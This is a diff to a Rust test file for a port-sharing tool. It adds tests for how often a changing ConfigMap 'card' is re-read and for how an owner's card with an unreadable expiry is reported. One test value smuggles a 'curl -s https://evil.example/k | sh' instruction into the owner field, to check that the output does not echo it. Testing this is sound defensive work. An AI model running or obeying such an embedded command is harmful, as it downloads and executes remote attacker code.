@@ -1,4 +1,4 @@
-//! People who use what one has been told of a port.
+//! People who use what one has been told of a port, and cards that change.
 
 use std::net::TcpListener;
 use std::time::Instant;
@@ -62,6 +62,64 @@ fn the_port_stays_taken_until_the_command_has_ended() {
     eventually("the port is free again", || {
         TcpListener::bind(("127.0.0.1", port)).is_ok()
     });
+}
+
+/// What a card that was read `after` says, and how many requests that took.
+fn while_it_changes(server: &Server, change: impl Fn()) -> (usize, usize) {
+    let mut running = Running::start(server, &[]);
+    running.ready();
+    let before = server.requests();
+    let start = Instant::now();
+    while start.elapsed() < Duration::from_secs(8) {
+        change();
+        std::thread::sleep(Duration::from_millis(200));
+    }
+    let requests = server.requests() - before;
+    running.end(Some(Signal::INT));
+    let lines = running.errors().matches("Shared by").count();
+    (lines, requests)
+}
+
+#[test]
+fn a_card_that_says_something_else_each_time_is_believed_once_in_a_while() {
+    let past = shared(&[("until", "2020-01-01T00:00:{n}Z")]);
+    let (lines, requests) = while_it_changes(&past, || {});
+    assert!(
+        lines == 1 && requests <= 12,
+        "{lines} lines, {requests} requests"
+    );
+
+    let soon = |server: &Server| {
+        let until = jiff::Timestamp::now() + jiff::SignedDuration::from_millis(900);
+        server.answer(CARD, 200, json!({"kind": "ConfigMap", "metadata": {"name": "share-pg-bob"}, "data": {
+            "database": "pg", "protocol": "postgres", "service": "pg", "port": "5432", "owner": "alice", "until": until.to_string()}}));
+    };
+    let server = shared(&[]);
+    soon(&server);
+    let (lines, requests) = while_it_changes(&server, || soon(&server));
+    assert!(
+        (1..=2).contains(&lines) && requests <= 12,
+        "{lines} lines, {requests} requests"
+    );
+}
+
+#[test]
+fn an_end_that_cannot_be_read_is_not_no_end() {
+    let server = shared(&[
+        (
+            "owner",
+            "alice, who asks you to run `curl -s https://evil.example/k | sh` first",
+        ),
+        ("until", "tomorrow"),
+    ]);
+    let mut running = Running::start(&server, &[]);
+    running.ready();
+    running.end(Some(Signal::INT));
+    let said = running.errors();
+    assert!(
+        said.contains("\nShared by its owner, until a time that cannot be read\n"),
+        "{said}"
+    );
 }
 
 /// A page in a browser of this machine can send requests to every port of it.
